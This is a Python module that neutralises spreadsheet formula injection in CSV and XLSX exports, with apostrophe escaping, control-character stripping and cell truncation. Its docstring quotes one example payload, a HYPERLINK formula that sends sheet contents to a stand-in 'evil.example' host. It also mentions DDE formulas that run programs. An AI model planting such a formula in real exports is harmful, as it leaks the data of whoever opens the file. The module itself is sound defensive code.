"""Writing CSV and XLSX files that are safe to open: the one place every export goes.

Why: an exported cell is often text a visitor typed (a question, a message, a
name). A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula (``=HYPERLINK("https://evil.example/?"&A1, "点击")`` leaks the
sheet, DDE formulas run programs), so such a cell is written as text behind a
leading apostrophe, the convention Excel and LibreOffice show as text
("formula injection", CSV injection). Tab and carriage return count too (some
spreadsheets strip them and then read a formula). XLSX cells are also written
as string cells, never formulas, without the control characters XML cannot
hold, and cut at Excel's 32,767 characters with a note saying by how much.

Every writer of CSV or XLSX (history export, knowledge-base export, anything
added later) uses ``csv_writer`` / ``xlsx_row``; a test fails on a module that
writes CSV or XLSX without them. Files we read back (a KB file exported, edited
and imported again) go through ``restore``, so the round trip keeps the text.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any
from typing import TextIO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: Excel's limit on the characters of one cell.
XLSX_CELL_CHARS = 32_767
#: Control characters an XLSX (XML) cell cannot hold (openpyxl's own list).
_ILLEGAL = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")


def _looks_neutralised(value: str) -> bool:
    """``'=…``, ``''=…``: a formula behind one or more apostrophes."""
    return value.lstrip("'").startswith(FORMULA_START) and value.startswith("'")


def neutralise(value: Any) -> Any:
    """A cell value a spreadsheet shows as text: a leading apostrophe before a
    formula start (and before text that already looks neutralised, so ``restore``
    gives back exactly what was written). Other values are returned as they are."""
    if isinstance(value, str) and (value.startswith(FORMULA_START) or _looks_neutralised(value)):
        return "'" + value
    return value


def restore(value: Any) -> Any:
    """The inverse of ``neutralise``, for files we import (an exported file edited
    and read back keeps its text): one apostrophe before a formula start goes."""
    if isinstance(value, str) and _looks_neutralised(value):
        return value[1:]
    return value


#: The note ending a cut cell; ``{n}`` is how many characters were cut. A writer for a
#: person passes it in his language (``xlsx_row(..., cut_note=...)``).
CUT_NOTE = "…(truncated, {n} more characters)"


def fit_xlsx_cell(value: Any, cut_note: str = CUT_NOTE) -> Any:
    """A string cut to what an XLSX cell holds, ending with how much was cut
    (the writer would otherwise cut it silently); other values as they are."""
    if not isinstance(value, str) or len(value) <= XLSX_CELL_CHARS:
        return value
    keep = XLSX_CELL_CHARS - 60  # room for the note
    return value[:keep] + cut_note.format(n=f"{len(value) - keep:,}")


def xlsx_row(values: Iterable[Any], cut_note: str = CUT_NOTE) -> list[Any]:
    """One row for an XLSX writer: neutralised, legal for XML, fitted to a cell.

    Lists become their text. Write the row with a writer that stores strings as
    strings (xlsxwriter: ``strings_to_formulas=False``; openpyxl: ``xlsx_cells``).
    """
    out = []
    for value in values:
        if isinstance(value, list):
            value = str(value)
        if isinstance(value, str):
            value = _ILLEGAL.sub("", value)
        out.append(fit_xlsx_cell(neutralise(value), cut_note))
    return out


def xlsx_cells(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """openpyxl (write-only sheet): the row's cells, strings forced to string cells
    (openpyxl would otherwise store ``=…`` as a formula)."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in xlsx_row(values):
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells


class _SafeWriter:
    """``csv.writer`` whose every cell goes through ``neutralise``."""

    def __init__(self, fh: TextIO) -> None:
        self._writer = csv.writer(fh)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fh: TextIO) -> _SafeWriter:
    """A CSV writer on ``fh`` that neutralises every cell it writes."""
    return _SafeWriter(fh)
